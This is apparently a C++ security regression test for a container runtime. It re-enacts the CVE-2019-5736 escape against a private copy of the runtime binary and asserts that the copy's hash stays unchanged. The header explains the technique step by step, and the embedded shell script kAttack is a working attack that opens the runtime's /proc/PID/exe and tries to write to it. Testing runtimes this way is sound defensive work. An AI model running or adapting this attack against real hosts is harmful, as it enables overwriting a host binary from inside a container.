/**
 * @file oci_runtime_binary_test.cpp
 * @brief The runtime's own binary, seen from inside the container: the CVE-2019-5736
 * attack, played for real.
 *
 * Until its final execve(2), every process the runtime puts into a container (the init
 * during `create`, the new process during `exec`) is a copy of the runtime: its
 * /proc/PID/exe (proc(5)) is a magic link to the host's `minirun-oci` file, and a magic
 * link is followed regardless of the root directory. runc's CVE-2019-5736 (February
 * 2019) showed how a container turns that into a write to the host binary:
 *
 *  1. the image has a program whose first line is `#!/proc/self/exe`. When the runtime
 *     execve(2)s it, the kernel resolves the interpreter in the runtime's own process,
 *     so the *host runtime binary* runs again, now inside the container, with the
 *     container's credentials, loading its libraries from the container's /lib;
 *  2. another process of the container opens /proc/PID/exe of that process (same uid,
 *     same capabilities: ptrace access mode READ is granted) and keeps the descriptor;
 *  3. once no process executes the binary any more (ETXTBSY ends), it re-opens the
 *     descriptor through /proc/self/fd/N for writing, and writes.
 *
 * Here the interpreter line is `#!/proc/self/exe --root`, and the `exec` arguments
 * `exec --process /tmp/fifo x` make the runtime, once inside, block reading a fifo
 * (`--root` swallows the script's own path): the attacker has all the time it needs.
 * The test uses a private copy of `minirun-oci`, so a runtime that is vulnerable damages
 * only the copy (the attacker appends, which leaves an ELF file runnable anyway).
 *
 * The property: the host file is unchanged. The attack's steps are logged so that the
 * test also checks that the attack really ran (the runtime image showed up inside the
 * container); a protected runtime (runc re-executes itself from a sealed memfd, see
 * runc's libcontainer/dmz/cloned_binary.c; since 1.2 from a read-only overlay) may make
 * step 2 or 3 fail, and passes.
 *
 * Man pages: proc(5) (/proc/pid/exe), execve(2) ("Interpreter scripts"), ptrace(2)
 * ("Ptrace access mode checking"). Lab: labs/05-capabilities-seccomp.
 */
#include <sys/stat.h>

#include "tests/e2e/oci_fixture.hpp"

namespace minirun::testing {
namespace {

class OciRuntimeBinary : public OciFixture {};

/// Content hash of a host file (sha256sum(1)), "" if unreadable.
std::string sha256_of(const std::string& path) {
  auto r = run_command({"sha256sum", path});
  return r.exit_code == 0 ? r.out.substr(0, 64) : "";
}

/// Copies every shared library `binary` needs (ldd(1)) to the same path under `rootfs`:
/// what a real image, with its own glibc, has anyway.
bool copy_libraries(const std::string& binary, const std::string& rootfs) {
  auto ldd = run_command({"ldd", binary});
  // A static runtime (the default build) needs no libraries at all.
  if (ldd.out.find("not a dynamic executable") != std::string::npos ||
      ldd.err.find("not a dynamic executable") != std::string::npos) {
    return true;
  }
  if (ldd.exit_code != 0) return false;
  for (const auto& line : lines_of(ldd.out)) {
    auto slash = line.find('/');
    if (slash == std::string::npos) continue;  // linux-vdso.so.1
    std::string library = line.substr(slash, line.find(' ', slash) - slash);
    std::string target = rootfs + library;
    if (run_command({"mkdir", "-p", target.substr(0, target.rfind('/'))}).exit_code != 0) return false;
    if (run_command({"cp", "-L", library, target}).exit_code != 0) return false;
  }
  return true;
}

/// The container's init: the attacker. Logs each step to /tmp/attack.log.
const char* kAttack = R"SH(
log() { echo "$*" >> /tmp/attack.log; }
mkfifo /tmp/fifo
i=0
while [ $i -lt 100 ] && [ -z "$target" ]; do
  for p in /proc/[0-9]*; do
    [ "$(head -c 14 $p/cmdline 2>/dev/null)" = /proc/self/exe ] && target=${p#/proc/}
  done
  i=$((i+1)); sleep 0.05
done
log "runtime-inside=$target"
if [ -n "$target" ]; then
  exec 3< /proc/$target/exe && log opened
  echo '{}' > /tmp/fifo
  i=0
  while [ $i -lt 100 ]; do
    if echo PWNED 2>/dev/null >> /proc/self/fd/3; then log wrote; break; fi
    i=$((i+1)); sleep 0.05
  done
fi
log done
exec sleep 30
)SH";

TEST_F(OciRuntimeBinary, ROOT_InitExeIsTheContainerProgram) {
  MINIRUN_REQUIRE_ROOT();
  auto r = run_script("readlink /proc/1/exe; readlink /proc/self/exe");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "/bin/busybox\n/bin/busybox\n");
}

TEST_F(OciRuntimeBinary, ROOT_ContainerCannotOverwriteRuntimeThroughProcExe) {
  MINIRUN_REQUIRE_ROOT();
  // A private copy: a vulnerable runtime damages the copy, not the build.
  std::string copy = scratch() + "/minirun-oci";
  ASSERT_EQ(run_command({"cp", runtime_binary(), copy}).exit_code, 0);
  runtime_binary() = copy;
  std::string before = sha256_of(copy);
  ASSERT_FALSE(before.empty());

  std::string bundle = make_script_bundle(kAttack, [](nlohmann::json& c) { c["root"]["readonly"] = false; });
  ASSERT_FALSE(bundle.empty());
  ASSERT_TRUE(copy_libraries(copy, bundle + "/rootfs"));
  std::ofstream(bundle + "/rootfs/evil") << "#!/proc/self/exe --root\n";
  ASSERT_EQ(::chmod((bundle + "/rootfs/evil").c_str(), 0755), 0);

  std::string id = start_detached_bundle(bundle);
  ASSERT_FALSE(id.empty());
  // The runtime's `exec` runs /evil: the runtime binary, again, inside the container.
  auto exec = oci({"exec", id, "/evil", "exec", "--process", "/tmp/fifo", "x"}, 20);

  std::string log_path = bundle + "/rootfs/tmp/attack.log";
  for (int i = 0; i < 100 && read_text(log_path).find("done") == std::string::npos; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  std::string log = read_text(log_path);
  // Either the runtime's image never appeared inside the container, because the
  // interpreter `/proc/self/exe` resolved to the sealed minirun-dmz (which then reports
  // that it cannot exec `--root`), or it appeared and every write below failed.
  bool runtime_appeared = log.find("runtime-inside=\n") == std::string::npos;
  if (!runtime_appeared) {
    EXPECT_NE(exec.err.find("minirun-dmz"), std::string::npos)
        << "the attack never saw the runtime, but not because of minirun-dmz: " << log << exec.err;
  }
  EXPECT_NE(log.find("done"), std::string::npos) << log;

  EXPECT_EQ(log.find("wrote"), std::string::npos) << "the container wrote to the runtime binary: " << log;
  EXPECT_EQ(sha256_of(copy), before) << "the host's minirun-oci file changed (CVE-2019-5736)";
}

}  // namespace
}  // namespace minirun::testing
